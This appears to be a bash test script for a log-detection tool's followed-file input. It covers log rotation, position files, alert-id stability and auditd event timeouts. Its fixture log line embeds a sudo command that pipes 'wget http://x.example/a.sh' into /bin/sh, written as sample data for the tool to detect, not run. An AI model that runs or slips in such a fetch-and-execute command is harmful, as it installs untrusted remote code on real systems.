#!/usr/bin/env bash
# A file input with `follow: true` (a host agent following /var/log/auth.log):
# lines appended are read as they come (half a line waits for its end), a
# logrotate rename + create is followed (lines written to the old file after
# the rename are read first), the position survives a restart (lines written
# while stopped are read, none twice), and alert ids do not depend on where
# reading started (topic PATH#INODE, offset past the line).
set -euo pipefail
bin=$1
tmp=$(mktemp -d)
daemon=
trap '[ -n "$daemon" ] && kill -9 "$daemon" 2>/dev/null; rm -rf "$tmp"' EXIT
fail() { echo "FAIL: $*" >&2; exit 1; }
source "$(dirname "$0")/lib.bash"
line() {  # line HOST: a sudo command that msticpy's risky-command rules flag
  printf '<86>Jul  8 16:08:00 %s sudo: bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/wget http://x.example/a.sh | /bin/sh\n' "$1"
}
cat > "$tmp/config.yaml" <<EOF
metrics: {listen: ""}
parsers: {year: 2024}
inputs:
  - {stream: syslog, path: auth.log, follow: true, position_file: auth.pos, from_start: true}
detectors: {ioc: {enabled: false}}
sinks:
  - {type: file, path: $tmp/alerts.jsonl}
EOF

line h1 > "$tmp/auth.log"
start
wait_alerts 1
line h2 | head -c 40 >> "$tmp/auth.log"  # half a line: not read before its end
sleep 1
[ "$(alerts)" = 1 ] || fail "half a line was read as a line"
line h2 | tail -c +41 >> "$tmp/auth.log"
wait_alerts 2
# logrotate: rename, a late write to the old file, then the new file.
mv "$tmp/auth.log" "$tmp/auth.log.1"
line h3 >> "$tmp/auth.log.1"
sleep 0.5
line h4 > "$tmp/auth.log"
wait_alerts 4
stop
grep -q "followed: 1 rotations" "$tmp/err" || fail "rotation not reported: $(cat "$tmp/err")"
[ -s "$tmp/auth.pos" ] || fail "no position saved"

line h5 >> "$tmp/auth.log"  # while stopped
start
wait_alerts 5
sleep 1
stop
hosts=$(python3 -c '
import json, sys
print(" ".join(json.loads(l)["host.name"] for l in open(sys.argv[1])))' "$tmp/alerts.jsonl")
[ "$hosts" = "h1 h2 h3 h4 h5" ] || fail "alerts for hosts '$hosts', expected h1 h2 h3 h4 h5"
ids=$(python3 -c '
import json, sys
print(len({json.loads(l)["id"] for l in open(sys.argv[1])}))' "$tmp/alerts.jsonl")
[ "$ids" = 5 ] || fail "$ids distinct alert ids for 5 alerts"
topic=$(python3 -c '
import json, sys
print(json.loads(open(sys.argv[1]).readlines()[4])["loghunt.position.topic"])' "$tmp/alerts.jsonl")
inode=$(stat -c %i "$tmp/auth.log")
birth=$(stat -c %W "$tmp/auth.log")  # seconds; 0 where the file system keeps none
if [ "$birth" = 0 ]; then
  [ "$topic" = "$tmp/auth.log#$inode" ] || fail "position topic '$topic', expected $tmp/auth.log#$inode"
else
  # PATH#INODE.BIRTH_NS: an inode number is reused by the next file created
  # once a file is deleted, and that file's alerts took the old one's ids.
  [ "${topic%.*}" = "$tmp/auth.log#$inode" ] && [ "$(( ${topic##*.} / 1000000000 ))" = "$birth" ] ||
    fail "position topic '$topic', expected $tmp/auth.log#$inode.<birth time of $birth s in ns>"
fi

# The same line read again from the start (position removed) gets the same id.
first_id=$(head -1 "$tmp/alerts.jsonl" | python3 -c 'import json,sys; print(json.load(sys.stdin)["id"])')
rm "$tmp/auth.pos" "$tmp/alerts.jsonl"
mv "$tmp/auth.log.1" "$tmp/auth.log"  # h1..h3 again, in the file they were read from
start
wait_alerts 3
stop
again=$(head -1 "$tmp/alerts.jsonl" | python3 -c 'import json,sys; print(json.load(sys.stdin)["id"])')
[ "$again" = "$first_id" ] || fail "alert id $again on rereading, was $first_id"

# auditd: a single-record event (USER_CMD) waits for a later record to show
# it is complete; on a quiet file it is reported after event_timeout_ms of
# quiet (it waited for SIGTERM), and the position is not saved past it while
# it is held (a crash lost it).
cmd_line=$(sed -n 548p "$2/auditd/msticpy/auditd_log.txt")
audit_config() {  # audit_config TIMEOUT_MS
  cat > "$tmp/audit.yaml" <<EOF
metrics: {listen: ""}
parsers: {auditd: {event_timeout_ms: $1}}
inputs:
  - {stream: auditd, path: audit.log, follow: true, position_file: audit.pos, from_start: true}
detectors: {ioc: {enabled: false}}
sinks:
  - {type: file, path: $tmp/alerts.jsonl}
EOF
}
rm -f "$tmp/alerts.jsonl"
audit_config 600000  # held for ten minutes
head -3 "$2/auditd/msticpy/auditd_log.txt" > "$tmp/audit.log"
before=$(stat -c %s "$tmp/audit.log")
echo "$cmd_line" >> "$tmp/audit.log"
"$bin" run --config "$tmp/audit.yaml" > /dev/null 2>> "$tmp/err" &
daemon=$!
sleep 2.5
[ "$(alerts)" = 0 ] || fail "the held event was reported before its timeout"
saved=$(awk '{print $3}' "$tmp/audit.pos")
[ "$saved" -le "$before" ] || fail "position $saved saved past the held record (starts at $before)"
kill -9 "$daemon"; wait "$daemon" 2>/dev/null || true; daemon=
audit_config 500
"$bin" run --config "$tmp/audit.yaml" > /dev/null 2>> "$tmp/err" &
daemon=$!
wait_alerts 1  # read again after the crash, reported after 0.5 s of quiet
grep -q download_to_shell "$tmp/alerts.jsonl" || fail "not the USER_CMD alert: $(cat "$tmp/alerts.jsonl")"
stop

# Config errors: stdin cannot be followed; position_file without follow.
printf 'inputs:\n  - {stream: syslog, path: "-", follow: true}\n' > "$tmp/bad.yaml"
if "$bin" check-config "$tmp/bad.yaml" 2> "$tmp/bad.err"; then fail "follow of stdin accepted"; fi
grep -q "follow: a followed input is a file, not stdin" "$tmp/bad.err" || fail "$(cat "$tmp/bad.err")"
printf 'inputs:\n  - {stream: syslog, path: x.log, position_file: x.pos}\n' > "$tmp/bad.yaml"
if "$bin" check-config "$tmp/bad.yaml" 2> "$tmp/bad.err"; then fail "position_file without follow accepted"; fi
grep -q "position_file: only used by a followed file input" "$tmp/bad.err" || fail "$(cat "$tmp/bad.err")"
echo "follow_input_test: ok"
